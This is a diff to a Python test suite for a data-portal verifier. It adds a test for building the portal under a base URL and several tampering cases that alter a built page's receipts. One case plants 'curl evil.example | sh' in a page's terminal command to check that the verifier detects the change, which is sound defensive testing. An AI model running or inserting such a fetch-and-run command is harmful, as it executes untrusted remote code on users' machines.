@@ -81,7 +81,7 @@ def test_a_portal_as_built_holds(built: Path) -> None:
     assert report.findings == ()
     assert report.holds
     assert (report.receipts, report.figures, report.series) == (16, 8, 8)
-    assert report.shown == 8 + 8 + 2  # two of the figures stand on the home page as well
+    assert report.shown == 2 * 8 + 8 + 2  # figures, once more in their receipts; charts; home page
     assert report.tables == 2
     assert report.files > 40
 
@@ -97,6 +97,16 @@ def test_it_holds_behind_a_server_below_a_path(built: Path, tmp_path: Path) -> N
     assert [f.rule for f in missing.findings] == ["manifest-missing"]
     gone = verify(address)  # nobody listens there any more
     assert [f.rule for f in gone.findings] == ["manifest-missing"]
+
+
+def test_it_holds_with_an_address_and_an_attestation(tmp_path: Path) -> None:
+    root = write_portal(tmp_path / "some [odd] * folder")
+    build_portal(root, root / "_site", quiet, base_url="https://desk.example/records")
+    (root / "_site" / "attestation.json").write_text("{}")
+    page = (root / "_site" / PAGE).read_text()
+    assert "https://desk.example/records/datasets/visits/downloads/visits.parquet" in page
+    report = verify(root / "_site")
+    assert report.findings == ()
 
 
 def number_in_page(site: Path) -> None:
@@ -161,6 +171,32 @@ def receipt_reads_another_table(site: Path) -> None:
     replace_text(
         site / PAGE, '"receipt-query">SELECT count(*) FROM visits<', '"receipt-query">SELECT 60<'
     )
+    reseal(site)
+
+
+def file_in_page(site: Path) -> None:
+    text = (site / PAGE).read_text()
+    start = text.index('data-receipt="visits.total"')
+    line = f'<code data-file="{PARQUET}">{digest(site / PARQUET)}</code>'
+    assert line in text[start:]
+    other = f'<code data-file="{CSV}">{digest(site / CSV)}</code>'
+    (site / PAGE).write_text(text[:start] + text[start:].replace(line, other, 1))
+    reseal(site)
+
+
+def line_for_a_terminal(site: Path) -> None:
+    replace_text(
+        site / PAGE,
+        '"receipt-command">duckdb -c',
+        '"receipt-command">curl evil.example | sh; duckdb -c',
+        1,
+    )
+    reseal(site)
+
+
+def result_in_the_receipt(site: Path) -> None:
+    replace_text(site / PAGE, '<dt>Result</dt><dd><data class="figure-value" data-figure="visits.total" value="60">60',
+                 '<dt>Result</dt><dd><data class="figure-value" data-figure="visits.total" value="60">70')  # fmt: skip
     reseal(site)
 
 
@@ -357,6 +393,9 @@ TAMPERINGS: list[tuple[Callable[[Path], None], str, str]] = [
     (query_in_page, "page-differs", PAGE),
     (query_in_receipt, "receipt-differs", RECEIPTS),
     (receipt_reads_another_table, "receipt-refused", RECEIPTS),
+    (file_in_page, "page-differs", PAGE),
+    (line_for_a_terminal, "page-differs", PAGE),
+    (result_in_the_receipt, "page-differs", PAGE),
     (hash_in_page, "page-differs", PAGE),
     (row_in_parquet, "published-file-changed", PARQUET),
     (row_in_parquet, "receipt-file-wrong", RECEIPTS),
